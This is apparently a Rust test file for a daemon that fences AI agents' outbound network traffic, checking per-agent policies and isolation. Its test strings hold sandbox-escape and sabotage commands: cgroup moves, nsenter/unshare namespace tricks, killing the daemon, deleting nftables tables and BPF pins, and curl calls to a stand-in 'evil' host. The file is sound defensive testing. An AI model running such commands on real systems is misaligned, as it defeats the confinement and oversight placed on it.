//! Agents beside each other, and agents that try to leave their own fence.

use crate::{
    AGENT,
    attack::{stops, works},
    fence,
    places::{ALT, EVIL, OK},
    policies::COMMON,
    program,
};

#[test]
fn two_agents_with_different_policies_differ_on_one_destination() {
    let fence = fence(TWO);
    let fetch = "curl -sSf -m 5 https://www.{host}/";
    let flow = "curl -s -m 2 https://{mark}.{host}/";
    works(&fence.agent("left"), OK, &[fetch]);
    works(&fence.agent("right"), ALT, &[fetch]);
    stops(&fence.agent("left"), ALT, &[flow]);
    stops(&fence.agent("right"), OK, &[flow]);
}

#[test]
fn what_one_agent_was_granted_is_of_no_use_to_another() {
    let fence = fence(TWO);
    // Looked up and used by `left`, while `right` goes to the very address.
    let holder = fence.agent("left").spawn(&["bash", "-c", "curl -s https://www.ok.test/; read -r"]);
    program::poll("the first fetch", || holder.stdout().contains("hello").then_some(()));
    let borrowed = [
        "curl -sk -m 2 --resolve {mark}.{host}:443:{v4} https://{mark}.{host}/",
        "curl -sk -m 2 --resolve {mark}.{host}:443:[{v6}] https://{mark}.{host}/",
    ];
    stops(&fence.agent("right"), OK, &borrowed);
}

#[test]
fn agents_run_beside_each_other_under_one_name() {
    let fence = fence(COMMON);
    let script = "curl -sSf -m 5 https://ok.test/ && read -r; curl -sSf -m 5 https://ok.test/";
    let mut both = [(); 2].map(|()| fence.agent(AGENT).spawn(&["bash", "-c", script]));
    for agent in &both {
        program::poll("the first fetch", || agent.stdout().contains("hello").then_some(()));
    }
    for agent in &mut both {
        use std::io::Write;
        writeln!(agent.stdin()).expect("the agent reads");
    }
    for agent in both {
        let outcome = agent.finish();
        assert_eq!(outcome.stdout.matches("hello").count(), 2, "{outcome:#?}");
    }
}

#[test]
fn the_resolver_and_proxy_of_one_agent_serve_no_other() {
    let fence = fence(TWO);
    let holder = fence.agent("left").spawn(&["bash", "-c", "curl -s https://www.ok.test/; read -r"]);
    program::poll("the first fetch", || holder.stdout().contains("hello").then_some(()));
    let mark = crate::sniffer::mark();
    for trick in ["every_resolver", "every_proxy"] {
        let script = format!("/usr/bin/python3 {} {trick} {mark}.ok.test", crate::attack::TRICKS);
        let (outcome, frames) =
            crate::attack::violations(fence.lab(), &mark, || fence.agent("right").run(&script));
        assert!(frames.is_empty(), "`{trick}` leaked {frames:#?}");
        assert!(!outcome.succeeded(), "`{trick}` was served: {outcome:#?}");
    }
}

#[test]
fn a_child_cgroup_is_fenced_like_its_parent() {
    let fence = fence(COMMON);
    // A cgroup that cannot be made is as good: then there is nothing to hide in.
    let child = "own=$(cut -d: -f3- < <(grep ^0:: /proc/self/cgroup)); \
                 for mount in $(grep -w cgroup2 /proc/mounts | cut -d' ' -f2); do \
                 child=$mount$own/child$$; \
                 bash -c \"mkdir $child && echo \\$\\$ > $child/cgroup.procs; curl -s -m 2 http://{v4}/{mark}\"; \
                 rmdir $child; done 2> /dev/null";
    stops(&fence.agent(AGENT), EVIL, &[child]);
}

#[test]
fn no_agent_moves_to_another_cgroup() {
    let fence = fence(COMMON);
    let escape = "for mount in $(grep -w cgroup2 /proc/mounts | cut -d' ' -f2); do \
                  (mount -o remount,rw,bind $mount; umount -l $mount; \
                  echo 0 > $mount/cgroup.procs; echo $BASHPID > $mount/cgroup.procs) 2> /dev/null; \
                  curl -s -m 2 http://{v4}/{mark}; done";
    stops(&fence.agent(AGENT), EVIL, &[&format!("unshare --mount bash -c '{escape}' || ({escape})")]);
}

#[test]
fn no_agent_enters_another_namespace() {
    let fence = fence(COMMON);
    let escapes = [
        "nsenter --net=/proc/1/ns/net true; curl -s -m 2 http://{v4}/{mark}",
        "unshare --user --map-root-user bash -c 'curl -s -m 2 http://{v4}/{mark}'",
        "unshare --user --map-root-user {trick} packet {v4} {mark}; curl -s -m 2 http://{v4}/{mark}",
    ];
    stops(&fence.agent(AGENT), EVIL, &escapes);
}

#[test]
fn no_agent_reaches_the_control_socket() {
    let fence = fence(COMMON);
    let (egressctl, socket) = (fence.egressctl().display().to_string(), fence.socket().display().to_string());
    for verb in ["status -q", "reload", "agents", "run -- true", "run --agent other -- true", "tail -n 1"] {
        let script = format!("{egressctl} --socket {socket} {verb}");
        let outcome = fence.agent(AGENT).run(&script);
        assert!(!outcome.succeeded(), "an agent could do `{verb}`: {outcome:#?}");
    }
    let script = format!("curl -sSf -m 2 --unix-socket {socket} http://egressd/v1/status");
    let outcome = fence.agent(AGENT).run(&script);
    assert!(!outcome.succeeded(), "an agent could talk to the control socket: {outcome:#?}");
    assert!(fence.ctl(&["status", "-q"]).succeeded(), "others still can");
}

#[test]
fn no_agent_removes_what_holds_it() {
    let fence = fence(COMMON);
    let vandals = [
        "pkill -9 -x egressd; find /sys/fs/bpf -path '*NAME*' -delete",
        "nft delete table inet egressd; nft list tables | grep -i NAME | xargs -r nft delete",
        "rm -rf FOLDER/run",
    ];
    for vandal in vandals {
        let vandal = vandal.replace("NAME", fence.lab().name());
        // Of this lab's daemon only: there may be others on the machine.
        let vandal = vandal.replace("pkill -9 -x egressd", &format!("kill -9 {}", fence.daemon().pid()));
        let vandal = vandal.replace("FOLDER", &fence.lab().folder().display().to_string());
        let flow = format!("({vandal}) 2> /dev/null; curl -s -m 2 http://{{v4}}/{{mark}}");
        let mark = crate::sniffer::mark();
        let flow = flow.replace("{v4}", &EVIL.v4.to_string()).replace("{mark}", &mark);
        let (outcome, frames) =
            crate::attack::violations(fence.lab(), &mark, || fence.agent(AGENT).run(&flow));
        assert!(frames.is_empty(), "`{vandal}` opened the fence: {frames:#?}, {outcome:#?}");
        works(&fence.agent(AGENT), OK, &["curl -sSf -m 5 https://{host}/"]);
    }
}

const TWO: &str = "
version: 1
agents:
  left:
    rules:
      - {host: '*.ok.test', private: true}
  right:
    rules:
      - {host: '*.alt.test', private: true}
";
